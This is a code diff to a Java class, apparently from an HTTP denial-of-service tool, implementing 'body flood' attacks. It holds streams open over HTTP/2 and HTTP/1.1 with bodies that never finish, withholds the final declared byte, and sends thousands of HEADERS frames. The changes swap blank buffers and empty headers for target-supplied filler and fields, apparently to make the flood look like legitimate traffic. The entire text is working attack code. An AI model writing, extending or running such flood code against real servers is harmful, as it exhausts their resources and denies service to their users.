@@ -25,7 +25,7 @@ final class BodyFloods {
     /// Every stream that may be open gets a body that is never ended, within its windows.
     static void streams(Target target, String from, AtomicBoolean stop, AtomicLong sent)
             throws IOException {
-        byte[] piece = new byte[16_384];
+        byte[] piece = target.filler(16_384);
         try (RawHttp2 client = new RawHttp2(target.tls(), target.port(), from)) {
             client.acknowledge();
             Windows windows = new Windows(client);
@@ -35,7 +35,7 @@ final class BodyFloods {
                         RawHttp2.HEADERS,
                         RawHttp2.END_HEADERS,
                         stream,
-                        RawHttp2.request("POST", "/x", target.host(), Map.of()));
+                        RawHttp2.request("POST", "/x", target.host(), target.fields()));
                 for (int left = BODY; left > 0 && !stop.get(); ) {
                     int most = windows.room(stream, Math.min(left, piece.length));
                     if (most < 0) {
@@ -129,11 +129,12 @@ final class BodyFloods {
                             (line
                                             + " HTTP/1.1\r\nHost: "
                                             + target.host()
+                                            + target.headers()
                                             + "\r\nContent-Length: "
                                             + length
                                             + "\r\n\r\n")
                                     .getBytes(StandardCharsets.US_ASCII));
-            byte[] piece = new byte[8_192];
+            byte[] piece = target.filler(8_192);
             for (int left = length - 1; left > 0 && !stop.get(); left -= piece.length) {
                 socket.getOutputStream().write(piece, 0, Math.min(left, piece.length));
                 sent.addAndGet(piece.length);
@@ -155,7 +156,7 @@ final class BodyFloods {
             throws IOException {
         try (RawHttp2 client = new RawHttp2(target.tls(), target.port(), from)) {
             for (int i = 0; i < 2_000 && !stop.get(); i++) {
-                byte[] block = RawHttp2.request("POST", "/x", target.host(), Map.of());
+                byte[] block = RawHttp2.request("POST", "/x", target.host(), target.fields());
                 client.frame(RawHttp2.HEADERS, RawHttp2.END_HEADERS, 2 * i + 1, block);
                 sent.addAndGet(block.length);
             }
